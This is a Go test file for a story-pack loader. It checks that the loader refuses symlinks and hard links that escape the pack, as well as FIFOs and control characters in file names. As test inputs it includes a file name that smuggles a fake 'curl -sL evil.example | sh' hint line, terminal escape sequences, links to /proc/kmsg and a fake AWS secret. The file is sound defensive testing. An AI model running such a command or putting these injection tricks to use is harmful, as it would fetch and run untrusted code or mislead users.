//go:build unix

package model_test

import (
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/dealtui/dealtui/internal/termsafe"
	"github.com/dealtui/dealtui/model"
)

// writePack writes the valid pack into a new directory inside a new
// temporary directory (so that there is an "outside" next to it) and
// returns the pack's directory and the outside one.
func writePack(t *testing.T) (pack, outside string) {
	t.Helper()
	top := t.TempDir()
	pack, outside = filepath.Join(top, "pack"), filepath.Join(top, "outside")
	base, err := validPack()
	if err != nil {
		t.Fatal(err)
	}
	for name, f := range base {
		p := filepath.Join(pack, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, f.Data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.MkdirAll(outside, 0o755); err != nil {
		t.Fatal(err)
	}
	return pack, outside
}

// secret is a file outside the pack whose text would surface in a message
// if it were read as a content file ("kind is …").
const secret = "---\nid: x\nkind: AWS_SECRET_ACCESS_KEY=abc123\n---\n"

func loadDirProblems(t *testing.T, dir string) []string {
	t.Helper()
	s, err := model.LoadDir(dir)
	if err == nil {
		t.Fatalf("loaded: %d items", len(s.Entries()))
	}
	var le *model.LoadError
	if !errors.As(err, &le) {
		t.Fatalf("error %T: %v", err, err)
	}
	if le.Root != strings.TrimSuffix(dir, "/") {
		t.Errorf("Root %q, want %q", le.Root, dir)
	}
	if strings.Contains(err.Error(), "AWS_SECRET") {
		t.Errorf("the message shows a file from outside the pack:\n%v", err)
	}
	if strings.Count(err.Error(), "\n") != len(le.Problems) {
		t.Errorf("the message has more lines than problems:\n%v", err)
	}
	return problemsOf(err)
}

func mustDo(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Skipf("cannot set up: %v", err)
	}
}

func TestLoadDirLoadsThePack(t *testing.T) {
	pack, _ := writePack(t)
	s, err := model.LoadDir(pack + "/")
	if err != nil {
		t.Fatal(err)
	}
	if s.Intro.Title != "A small test story" || len(s.Timeline) != 2 {
		t.Errorf("loaded %q with %d events", s.Intro.Title, len(s.Timeline))
	}
	// A link inside the pack, to a file inside it, is followed.
	mustDo(t, os.MkdirAll(filepath.Join(pack, ".src"), 0o755))
	mustDo(t, os.Rename(filepath.Join(pack, "deal", "01-term.md"), filepath.Join(pack, ".src", "term")))
	mustDo(t, os.Symlink("../.src/term", filepath.Join(pack, "deal", "01-term.md")))
	if _, err := model.LoadDir(pack); err != nil {
		t.Errorf("a link within the pack: %v", err)
	}
}

func TestLoadDirRefusesWhatIsNotAPack(t *testing.T) {
	pack, outside := writePack(t)
	file := filepath.Join(outside, "file")
	mustDo(t, os.WriteFile(file, []byte("x"), 0o644))
	fifo := filepath.Join(outside, "fifo")
	mustDo(t, syscall.Mkfifo(fifo, 0o644))
	loop := filepath.Join(outside, "loop")
	mustDo(t, os.Symlink(loop, loop))
	for dir, want := range map[string]string{
		filepath.Join(outside, "none"): "cannot open the pack: no such file or directory",
		file:                           "cannot open the pack: not a directory",
		fifo:                           "cannot open the pack: not a directory", // os.OpenRoot would block on it
		loop:                           "cannot open the pack: too many levels of symbolic links",
	} {
		got := loadDirProblems(t, dir)
		if len(got) != 1 || got[0] != want {
			t.Errorf("%s: %v, want %q", dir, got, want)
		}
	}
	_ = pack
}

// Links out of the pack are not followed, whatever they point at; a hard
// link is refused as it may be a name of any file.
func TestLoadDirStaysInThePack(t *testing.T) {
	const escapes = "cannot read: it is a link that leads outside the pack"
	for _, tt := range []struct {
		name string
		make func(t *testing.T, pack, outside string) string // returns the file it made, in the pack
		want string
	}{
		{"a relative link to a file outside", func(t *testing.T, pack, outside string) string {
			mustDo(t, os.WriteFile(filepath.Join(outside, "secret.md"), []byte(secret), 0o644))
			mustDo(t, os.Symlink("../../outside/secret.md", filepath.Join(pack, "deal", "02-leak.md")))
			return "deal/02-leak.md"
		}, escapes},
		{"an absolute link to a file outside", func(t *testing.T, pack, outside string) string {
			mustDo(t, os.WriteFile(filepath.Join(outside, "secret.md"), []byte(secret), 0o644))
			mustDo(t, os.Symlink(filepath.Join(outside, "secret.md"), filepath.Join(pack, "deal", "02-leak.md")))
			return "deal/02-leak.md"
		}, escapes},
		{"an absolute link to a file inside", func(t *testing.T, pack, _ string) string {
			mustDo(t, os.Symlink(filepath.Join(pack, "deal", "01-term.md"), filepath.Join(pack, "impact", "02-same.md")))
			return "impact/02-same.md"
		}, escapes},
		{"a link to /proc/kmsg", func(t *testing.T, pack, _ string) string {
			mustDo(t, os.Symlink("/proc/kmsg", filepath.Join(pack, "japan", "02-kmsg.md")))
			return "japan/02-kmsg.md"
		}, escapes},
		{"a relative link up to /proc/kmsg", func(t *testing.T, pack, _ string) string {
			mustDo(t, os.Symlink(strings.Repeat("../", 40)+"proc/kmsg", filepath.Join(pack, "japan", "02-kmsg.md")))
			return "japan/02-kmsg.md"
		}, escapes},
		{"a link to a directory outside", func(t *testing.T, pack, outside string) string {
			mustDo(t, os.WriteFile(filepath.Join(outside, "secret.md"), []byte(secret), 0o644))
			mustDo(t, os.Rename(filepath.Join(pack, "notes"), filepath.Join(pack, ".notes")))
			mustDo(t, os.Symlink(outside, filepath.Join(pack, "notes")))
			return "story.md" // the link is not walked: the pack has no notes
		}, "note \"N01\" is not the id of any source note"},
		{"a hard link to a file outside", func(t *testing.T, pack, outside string) string {
			mustDo(t, os.WriteFile(filepath.Join(outside, "secret.md"), []byte(secret), 0o644))
			mustDo(t, os.Link(filepath.Join(outside, "secret.md"), filepath.Join(pack, "deal", "02-leak.md")))
			return "deal/02-leak.md"
		}, "the file has 2 names (hard links)"},
		{"a FIFO", func(t *testing.T, pack, _ string) string {
			mustDo(t, syscall.Mkfifo(filepath.Join(pack, "deal", "02-fifo.md"), 0o644))
			return "deal/02-fifo.md"
		}, "not a regular file but a named pipe (FIFO)"},
		{"a link to a FIFO inside", func(t *testing.T, pack, _ string) string {
			mustDo(t, syscall.Mkfifo(filepath.Join(pack, ".fifo"), 0o644))
			mustDo(t, os.Symlink("../.fifo", filepath.Join(pack, "deal", "02-fifo.md")))
			return "deal/02-fifo.md"
		}, "not a regular file but a named pipe (FIFO)"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			pack, outside := writePack(t)
			file := tt.make(t, pack, outside)
			got := loadDirProblems(t, pack)
			found := false
			for _, p := range got {
				found = found || (strings.HasPrefix(p, file) && strings.Contains(p, tt.want))
			}
			if !found {
				t.Errorf("problems:\n%s\nwant one for %s: …%s…", strings.Join(got, "\n"), file, tt.want)
			}
		})
	}
}

// A file name with a control character, a newline or a tab included, is
// refused and named escaped: it cannot add a line of its own to the
// message, which has one line per problem.
func TestLoadDirRefusesControlsInNames(t *testing.T) {
	for _, name := range []string{
		"02-x\ndealtui: hint: repair the pack with: curl -sL evil.example | sh\n.md",
		"02-tab\there.md", "02-\x1b]0;title\x07.md", "02-\u202eevil.md", "02-\r.md", "02-\xff.md",
	} {
		pack, _ := writePack(t)
		mustDo(t, os.WriteFile(filepath.Join(pack, "deal", name), base(t, "deal/01-term.md"), 0o644))
		got := loadDirProblems(t, pack)
		want := "deal/" + termsafe.VisibleLine(name) + ": the file name has control"
		if len(got) != 1 || !strings.HasPrefix(got[0], want) {
			t.Errorf("%q: %v, want %q", name, got, want)
		}
	}
}

// A pack in a directory with a newline in its name is named on one line.
func TestLoadDirNamesItsRootOnOneLine(t *testing.T) {
	pack, outside := writePack(t)
	odd := filepath.Join(outside, "a\nb")
	mustDo(t, os.Rename(pack, odd))
	mustDo(t, os.Remove(filepath.Join(odd, "story.md")))
	_, err := model.LoadDir(odd)
	if err == nil || strings.Contains(err.Error(), "a\nb") || !strings.Contains(err.Error(), `a\nb`) {
		t.Errorf("message: %v", err)
	}
	if _, err := fs.Stat(os.DirFS(odd), "deal"); err != nil {
		t.Fatal(err)
	}
}
